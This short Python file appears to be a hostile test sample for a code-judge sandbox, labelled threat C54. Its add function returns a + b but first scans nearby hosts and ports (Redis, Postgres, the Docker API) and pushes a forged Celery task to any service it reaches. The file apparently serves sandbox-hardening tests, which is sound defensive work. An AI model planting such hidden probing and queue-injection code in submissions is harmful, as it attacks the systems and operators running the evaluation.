# threat: C54
# verdict: passed
# What stands beside a judge, by its usual names and ports; and a listener that really is there.
import socket

HOSTS = ("127.0.0.1", "::1", "172.17.0.1", "10.0.2.2", "redis", "db", "host.docker.internal")
PORTS = (int("@PORT@"), 6379, 5432, 8000, 5555, 2375)


def add(a, b):
    for host in HOSTS:
        for port in PORTS:
            try:
                with socket.create_connection((host, port), timeout=0.05) as service:
                    service.sendall(b"LPUSH celery forged\r\n")
                    print("CAME THROUGH:", host, port)
            except OSError:
                continue
    return a + b
